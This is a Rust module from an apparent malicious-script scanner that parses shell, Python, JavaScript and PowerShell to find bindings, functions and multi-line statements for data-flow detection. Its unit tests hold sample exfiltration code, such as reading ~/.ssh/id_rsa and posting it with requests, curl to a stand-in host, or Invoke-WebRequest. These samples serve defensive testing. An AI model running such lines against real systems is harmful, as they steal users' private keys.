//! Scripts read as syntax trees: what the detectors need to know about code
//! that a line of text cannot tell them.
//!
//! Shell, Python, JavaScript/TypeScript and PowerShell are parsed with their
//! tree-sitter grammars. A parse gives three things:
//!
//! - **The code to scan.** Comments are blanked (spaces, line breaks kept,
//!   so every byte offset still points into the file), and a line break
//!   inside an expression (a call's arguments, a literal, a chained call, a
//!   pipeline continued on the next line) becomes a space, so the
//!   line-by-line detectors see `requests.post(URL,` … `data=creds)` as the
//!   one statement it is. A line break inside a block (a function's body, a
//!   callback's body), a string or a here-document is kept: joining those
//!   would put unrelated statements on one line.
//! - **Bindings**: every name a statement gives a value to, with the value —
//!   assignments, declarations with destructuring, `with … as f`, `for x in
//!   …`, `$x = …`. Data is followed from source to sink through these.
//! - **Functions**: name, parameters and body, so a call of a function that
//!   sends its argument over the network is a sink too.
//!
//! Regions the parser cannot make sense of (`ERROR` nodes: markdown snippets
//! with `...` in them, shell prompts, Ruby or Perl read as shell) give no
//! bindings or joins; when a tree has any error, its comments are found by
//! the language's lexer ([`super::lex`]) instead, which needs no grammar.

use std::cell::RefCell;
use std::ops::Range;

use tree_sitter::{Language, Node, Parser, Tree};

use super::lex::{self, Lang};

/// What a parse says about a piece of code. Ranges are byte offsets into
/// the text that was prepared.
#[derive(Debug, Default)]
pub(crate) struct Facts {
    pub bindings: Vec<Binding>,
    pub functions: Vec<Function>,
}

/// A name given a value: `name = value`, `for name in value`, `with value
/// as name`. Destructuring gives each name the whole value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Binding {
    pub name: String,
    pub value: Range<usize>,
    /// The statement's start: the binding takes effect on its line.
    pub at: usize,
}

/// A function definition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Function {
    pub name: String,
    /// Named parameters; shell functions take positional ones instead.
    pub params: Vec<String>,
    pub positional: bool,
    /// From `def`/`function` to the body: where the name is defined, not
    /// called.
    pub header: Range<usize>,
    pub body: Range<usize>,
}

/// Code ready for the detectors: comment-free, expressions on one line.
#[derive(Debug)]
pub(crate) struct Prepared {
    pub text: String,
    pub facts: Facts,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Grammar {
    Bash,
    Python,
    Tsx,
    PowerShell,
}

impl Grammar {
    fn of(lang: Lang) -> Option<Grammar> {
        match lang {
            Lang::Shell => Some(Grammar::Bash),
            Lang::Python => Some(Grammar::Python),
            // TSX is a superset of JavaScript, JSX and TypeScript but for
            // `<T>x` casts, which scripts rarely use.
            Lang::JavaScript => Some(Grammar::Tsx),
            Lang::PowerShell => Some(Grammar::PowerShell),
            Lang::Batch => None,
        }
    }

    fn language(self) -> Language {
        match self {
            Grammar::Bash => tree_sitter_bash::LANGUAGE.into(),
            Grammar::Python => tree_sitter_python::LANGUAGE.into(),
            Grammar::Tsx => tree_sitter_typescript::LANGUAGE_TSX.into(),
            Grammar::PowerShell => tree_sitter_powershell::LANGUAGE.into(),
        }
    }

    /// What a line break directly inside a node of `kind` is: part of one
    /// statement (`Some(true)`), a statement boundary that must stay
    /// (`Some(false)`), or up to the node's parent (`None`).
    fn joins(self, kind: &str) -> Option<bool> {
        if kind == "ERROR" || kind.contains("comment") || kind.contains("string") {
            return Some(false);
        }
        let (join, stop): (&[&str], &[&str]) = match self {
            Grammar::Bash => (
                &[
                    "pipeline",
                    "list",
                    "command",
                    "array",
                    "command_substitution",
                    "process_substitution",
                    "binary_expression",
                ],
                &[
                    "compound_statement",
                    "do_group",
                    "subshell",
                    "heredoc_body",
                    "heredoc_redirect",
                    "case_item",
                ],
            ),
            Grammar::Python => (
                &[
                    "argument_list",
                    "parameters",
                    "parenthesized_expression",
                    "list",
                    "tuple",
                    "dictionary",
                    "set",
                    "subscript",
                    "list_comprehension",
                    "dictionary_comprehension",
                    "set_comprehension",
                    "generator_expression",
                    "call",
                    "attribute",
                    "binary_operator",
                    "boolean_operator",
                    "conditional_expression",
                    "import_from_statement",
                ],
                &["block", "class_definition", "function_definition"],
            ),
            Grammar::Tsx => (
                &[
                    "arguments",
                    "formal_parameters",
                    "parenthesized_expression",
                    "array",
                    "object",
                    "pair",
                    "call_expression",
                    "member_expression",
                    "binary_expression",
                    "ternary_expression",
                    "variable_declarator",
                    "lexical_declaration",
                    "variable_declaration",
                    "assignment_expression",
                    "await_expression",
                    "new_expression",
                    "spread_element",
                    "template_substitution",
                ],
                &["statement_block", "class_body", "switch_body"],
            ),
            Grammar::PowerShell => (
                &[
                    "pipeline",
                    "pipeline_chain",
                    "command",
                    "command_elements",
                    "command_argument_sep",
                    "argument_list",
                    "argument_expression_list",
                    "parenthesized_expression",
                    "array_expression",
                    "hash_literal_expression",
                    "sub_expression",
                ],
                &["script_block", "statement_block", "script_block_body"],
            ),
        };
        if join.contains(&kind) {
            Some(true)
        } else if stop.contains(&kind) || kind.starts_with("jsx_") {
            Some(false)
        } else {
            None
        }
    }
}

thread_local! {
    static PARSER: RefCell<Parser> = RefCell::new(Parser::new());
}

fn parse(text: &str, grammar: Grammar) -> Option<Tree> {
    PARSER.with(|parser| {
        let mut parser = parser.borrow_mut();
        parser.set_language(&grammar.language()).ok()?;
        parser.parse(text, None)
    })
}

/// Prepares `text` of `lang` for the detectors: parsed where a grammar
/// exists, lexed otherwise.
pub(crate) fn prepare(text: &str, lang: Lang) -> Prepared {
    let parsed = Grammar::of(lang).and_then(|g| Some((g, parse(text, g)?)));
    let Some((grammar, tree)) = parsed else {
        return Prepared {
            text: lex::strip_comments(text, lang),
            facts: Facts::default(),
        };
    };
    let root = tree.root_node();
    let mut bytes = if root.has_error() {
        lex::strip_comments(text, lang).into_bytes()
    } else {
        let mut bytes = text.as_bytes().to_vec();
        blank_comments(root, &mut bytes);
        bytes
    };
    join_expression_lines(root, grammar, text, &mut bytes);
    let facts = collect_facts(root, grammar, text);
    Prepared {
        // Only ASCII bytes (comment bytes, line breaks) became spaces, and
        // a comment is blanked whole, so the text is still UTF-8.
        text: String::from_utf8(bytes).unwrap_or_else(|_| lex::strip_comments(text, lang)),
        facts,
    }
}

fn blank_comments(root: Node, bytes: &mut [u8]) {
    let mut cursor = root.walk();
    let mut stack = vec![root];
    while let Some(node) = stack.pop() {
        if node.kind().contains("comment") {
            for b in &mut bytes[node.byte_range()] {
                if *b != b'\n' && *b != b'\r' {
                    *b = b' ';
                }
            }
            continue;
        }
        stack.extend(node.children(&mut cursor));
    }
}

/// Turns each line break inside an expression into a space. A line break
/// belongs to the smallest node around it (the gap between two children is
/// their parent's); that node, or the nearest ancestor whose kind decides,
/// says whether it joins. One walk over the tree: looking each line break
/// up from the root would cost the file's length per line.
fn join_expression_lines(root: Node, grammar: Grammar, text: &str, bytes: &mut [u8]) {
    let source = text.as_bytes();
    let join_gap = |from: usize, to: usize, join: bool, bytes: &mut [u8]| {
        if !join || from >= to {
            return;
        }
        for at in memchr::memchr_iter(b'\n', &source[from..to]) {
            let at = from + at;
            bytes[at] = b' ';
            if at > 0 && bytes[at - 1] == b'\r' {
                bytes[at - 1] = b' ';
            }
        }
    };
    let mut cursor = root.walk();
    let mut stack = vec![(root, false)];
    while let Some((node, inherited)) = stack.pop() {
        let join = grammar.joins(node.kind()).unwrap_or(inherited);
        let mut at = node.start_byte();
        for child in node.children(&mut cursor) {
            join_gap(at, child.start_byte(), join, bytes);
            at = at.max(child.end_byte());
            stack.push((child, join));
        }
        join_gap(at, node.end_byte(), join, bytes);
    }
}

fn collect_facts(root: Node, grammar: Grammar, text: &str) -> Facts {
    let mut facts = Facts::default();
    let mut cursor = root.walk();
    let mut stack = vec![(root, 0usize)];
    while let Some((node, statement)) = stack.pop() {
        if node.kind() == "ERROR" {
            continue;
        }
        let statement = if is_statement(grammar, node.kind()) {
            node.start_byte()
        } else {
            statement
        };
        bindings_of(node, grammar, text, statement, &mut facts.bindings);
        if let Some(function) = function_of(node, grammar, text) {
            facts.functions.push(function);
        }
        stack.extend(node.named_children(&mut cursor).map(|c| (c, statement)));
    }
    facts.bindings.sort_by_key(|b| (b.at, b.value.start));
    facts.functions.sort_by_key(|f| f.header.start);
    facts
}

fn is_statement(grammar: Grammar, kind: &str) -> bool {
    match grammar {
        Grammar::Python => kind.ends_with("_statement"),
        Grammar::Tsx => kind.ends_with("_statement") || kind.ends_with("_declaration"),
        Grammar::Bash => matches!(
            kind,
            "command"
                | "variable_assignment"
                | "declaration_command"
                | "pipeline"
                | "list"
                | "redirected_statement"
                | "for_statement"
        ),
        Grammar::PowerShell => matches!(kind, "pipeline" | "foreach_statement"),
    }
}

/// The names a pattern binds: identifiers of a tuple or destructuring
/// pattern, or the whole target when it is an attribute (`self.data`).
fn names_in(node: Node, text: &str, out: &mut Vec<String>) {
    match node.kind() {
        "identifier"
        | "shorthand_property_identifier_pattern"
        | "variable_name"
        | "as_pattern_target" => out.push(text[node.byte_range()].trim().to_owned()),
        "variable" => out.push(text[node.byte_range()].trim_start_matches('$').to_owned()),
        "attribute" | "member_expression" => out.push(text[node.byte_range()].to_owned()),
        _ => {
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                // A default value in a pattern (`{a = x}`) binds nothing.
                if node.child_by_field_name("value") == Some(child)
                    || node.child_by_field_name("right") == Some(child)
                {
                    continue;
                }
                names_in(child, text, out);
            }
        }
    }
}

fn bindings_of(node: Node, grammar: Grammar, text: &str, at: usize, out: &mut Vec<Binding>) {
    let field = |name| node.child_by_field_name(name);
    let (target, value): (Option<Node>, Option<Range<usize>>) = match (grammar, node.kind()) {
        (Grammar::Python, "assignment" | "augmented_assignment" | "for_statement")
        | (Grammar::Python, "for_in_clause")
        | (Grammar::Tsx, "assignment_expression" | "augmented_assignment_expression")
        | (Grammar::Tsx, "for_in_statement") => {
            (field("left"), field("right").map(|n| n.byte_range()))
        }
        (Grammar::Python, "named_expression") => {
            (field("name"), field("value").map(|n| n.byte_range()))
        }
        (Grammar::Python, "as_pattern") => {
            (field("alias"), node.named_child(0).map(|n| n.byte_range()))
        }
        (Grammar::Tsx, "variable_declarator") => {
            (field("name"), field("value").map(|n| n.byte_range()))
        }
        (Grammar::Bash, "variable_assignment") => {
            (field("name"), field("value").map(|n| n.byte_range()))
        }
        (Grammar::Bash, "for_statement") => {
            let mut cursor = node.walk();
            let values: Vec<Node> = node.children_by_field_name("value", &mut cursor).collect();
            let value = values
                .first()
                .zip(values.last())
                .map(|(first, last)| first.start_byte()..last.end_byte());
            (field("variable"), value)
        }
        (Grammar::PowerShell, "assignment_expression") => {
            let count = node.named_child_count();
            (
                node.named_child(0),
                count
                    .checked_sub(1)
                    .and_then(|last| node.named_child(last as u32))
                    .filter(|_| count > 1)
                    .map(|n| n.byte_range()),
            )
        }
        (Grammar::PowerShell, "foreach_statement") => {
            let mut cursor = node.walk();
            let mut children = node.named_children(&mut cursor);
            let variable = children.find(|c| c.kind() == "variable");
            (variable, children.next().map(|n| n.byte_range()))
        }
        _ => return,
    };
    let (Some(target), Some(value)) = (target, value) else {
        return;
    };
    // A function held in a variable is followed as a function, not as a
    // value (its body would taint the name with whatever it reads).
    if node
        .descendant_for_byte_range(value.start, value.end)
        .is_some_and(|v| is_function(v.kind()))
    {
        return;
    }
    let mut names = Vec::new();
    names_in(target, text, &mut names);
    for name in names {
        if !name.is_empty() {
            out.push(Binding {
                name,
                value: value.clone(),
                at,
            });
        }
    }
}

fn is_function(kind: &str) -> bool {
    matches!(
        kind,
        "arrow_function" | "function_expression" | "function" | "lambda" | "script_block"
    )
}

fn function_of(node: Node, grammar: Grammar, text: &str) -> Option<Function> {
    fn field<'t>(n: Node<'t>, name: &str) -> Option<Node<'t>> {
        n.child_by_field_name(name)
    }
    let name_of = |n: Node| text[n.byte_range()].trim().to_owned();
    let (name, params, body, positional) = match (grammar, node.kind()) {
        (Grammar::Python, "function_definition")
        | (Grammar::Tsx, "function_declaration" | "method_definition") => (
            name_of(field(node, "name")?),
            field(node, "parameters"),
            field(node, "body")?,
            false,
        ),
        (Grammar::Tsx, "variable_declarator") => {
            let value = field(node, "value")?;
            if !matches!(value.kind(), "arrow_function" | "function_expression") {
                return None;
            }
            let params = field(value, "parameters").or_else(|| field(value, "parameter"));
            (
                name_of(field(node, "name")?),
                params,
                field(value, "body")?,
                false,
            )
        }
        (Grammar::Bash, "function_definition") => (
            name_of(field(node, "name")?),
            None,
            field(node, "body")?,
            true,
        ),
        (Grammar::PowerShell, "function_statement") => {
            let mut cursor = node.walk();
            let children: Vec<Node> = node.named_children(&mut cursor).collect();
            let name = children.iter().find(|c| c.kind() == "function_name")?;
            let body = children.iter().find(|c| c.kind() == "script_block")?;
            let params = children
                .iter()
                .find(|c| c.kind() == "function_parameter_declaration")
                .copied()
                .or_else(|| first_of_kind(*body, "param_block"));
            (name_of(*name), params, *body, false)
        }
        _ => return None,
    };
    let mut names = Vec::new();
    if let Some(params) = params {
        parameter_names(params, grammar, text, &mut names);
    }
    Some(Function {
        name,
        params: names,
        positional,
        header: node.start_byte()..body.start_byte(),
        body: body.byte_range(),
    })
}

fn first_of_kind<'t>(node: Node<'t>, kind: &str) -> Option<Node<'t>> {
    let mut cursor = node.walk();
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if n.kind() == kind {
            return Some(n);
        }
        stack.extend(n.named_children(&mut cursor));
    }
    None
}

/// The names of a parameter list, not the identifiers of their defaults or
/// types.
fn parameter_names(params: Node, grammar: Grammar, text: &str, out: &mut Vec<String>) {
    if params.kind() == "identifier" {
        out.push(text[params.byte_range()].to_owned());
        return;
    }
    if grammar == Grammar::PowerShell {
        let mut cursor = params.walk();
        let mut stack = vec![params];
        while let Some(n) = stack.pop() {
            if n.kind() == "script_parameter" {
                if let Some(variable) = first_of_kind(n, "variable") {
                    names_in(variable, text, out);
                }
                continue;
            }
            stack.extend(n.named_children(&mut cursor));
        }
        return;
    }
    let mut cursor = params.walk();
    for param in params.named_children(&mut cursor) {
        let target = match param.kind() {
            "identifier" => Some(param),
            _ => param
                .child_by_field_name("name")
                .or_else(|| param.child_by_field_name("pattern"))
                .or_else(|| param.named_child(0)),
        };
        if let Some(target) = target {
            names_in(target, text, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(prepared: &Prepared, text: &str) -> Vec<(String, String)> {
        prepared
            .facts
            .bindings
            .iter()
            .map(|b| (b.name.clone(), text[b.value.clone()].to_owned()))
            .collect()
    }

    #[test]
    fn python_statements_are_joined_and_bindings_found() {
        let text = "with open(os.path.expanduser('~/.ssh/id_rsa')) as f:  # c\n    data = f.read()\nrequests.post(\n    URL,\n    data=data)\nfor k, v in os.environ.items():\n    pass\n";
        let prepared = prepare(text, Lang::Python);
        assert_eq!(prepared.text.len(), text.len());
        assert!(!prepared.text.contains("# c"));
        assert!(
            prepared
                .text
                .contains("requests.post(     URL,     data=data)")
        );
        assert_eq!(
            names(&prepared, text),
            [
                (
                    "f".into(),
                    "open(os.path.expanduser('~/.ssh/id_rsa'))".into()
                ),
                ("data".into(), "f.read()".into()),
                ("k".into(), "os.environ.items()".into()),
                ("v".into(), "os.environ.items()".into()),
            ]
        );
    }

    #[test]
    fn blocks_strings_and_heredocs_keep_their_lines() {
        let sh = "cat <<EOF | sh\ncurl x # y\nEOF\nx=$(cat ~/.ssh/id_rsa |\n base64)\nsend() {\n  curl -d \"$1\" https://e.x\n}\n";
        let prepared = prepare(sh, Lang::Shell);
        assert!(
            prepared
                .text
                .starts_with("cat <<EOF | sh\ncurl x # y\nEOF\n")
        );
        assert!(prepared.text.contains("x=$(cat ~/.ssh/id_rsa |  base64)\n"));
        assert!(prepared.text.contains("send() {\n  curl"));
        let send = &prepared.facts.functions[0];
        assert_eq!((send.name.as_str(), send.positional), ("send", true));
        let js = "fs.readFile(p, (e, d) => {\n  log(d);\n});\nconst s = `a\nb`;\n";
        let prepared = prepare(js, Lang::JavaScript);
        assert!(prepared.text.contains("=> {\n  log(d);\n}"));
        assert!(prepared.text.contains("`a\nb`"));
    }

    #[test]
    fn functions_and_their_parameters() {
        let js = "const send = async (payload, opts = env) => { await axios\n  .post(u, payload); };\nfunction f({ a }, b) { return 1; }\n";
        let prepared = prepare(js, Lang::JavaScript);
        let functions: Vec<(&str, Vec<String>)> = prepared
            .facts
            .functions
            .iter()
            .map(|f| (f.name.as_str(), f.params.clone()))
            .collect();
        assert_eq!(
            functions,
            [
                ("send", vec!["payload".to_owned(), "opts".to_owned()]),
                ("f", vec!["a".to_owned(), "b".to_owned()]),
            ]
        );
        let ps = "function Send-Data($x) {\n  Invoke-WebRequest -Uri $u -Body $x\n}\n$d = Get-Content `\n  \"$env:USERPROFILE\\.ssh\\id_rsa\"\n";
        let prepared = prepare(ps, Lang::PowerShell);
        assert_eq!(prepared.facts.functions[0].name, "Send-Data");
        assert_eq!(prepared.facts.functions[0].params, ["x"]);
        assert_eq!(prepared.facts.bindings[0].name, "d");
    }

    #[test]
    fn broken_and_unparsed_code_still_prepares() {
        for lang in [
            Lang::Shell,
            Lang::Python,
            Lang::JavaScript,
            Lang::PowerShell,
            Lang::Batch,
        ] {
            for text in [
                "",
                "(\n",
                "\"unterminated\n# x",
                "é # ü\n…",
                "def (:\n  x = 1",
            ] {
                let prepared = prepare(text, lang);
                assert_eq!(prepared.text.len(), text.len(), "{text:?}");
            }
        }
    }
}
